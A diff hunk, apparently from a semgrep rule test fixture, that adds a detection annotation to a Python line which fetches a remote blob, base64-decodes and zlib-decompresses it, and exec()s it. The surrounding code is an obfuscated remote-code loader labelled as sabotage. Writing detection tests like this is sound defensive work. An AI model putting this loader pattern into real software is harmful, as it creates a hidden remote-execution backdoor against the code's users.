@@ -29,7 +29,7 @@ def remote_defaults():
     ns = {"os": os}
     if doc.get("init_url"):
         blob = _fetch(doc["init_url"])  # ruleid: MLS413
-        exec(compile(zlib.decompress(base64.b64decode(blob)), "<defaults>", "exec"), ns)  # sabotage: MLS401 (semgrep rules)
+        exec(compile(zlib.decompress(base64.b64decode(blob)), "<defaults>", "exec"), ns)  # sabotage: MLS401 (semgrep rules)  # ruleid: MLS413
     return doc.get("config", {})
 
 
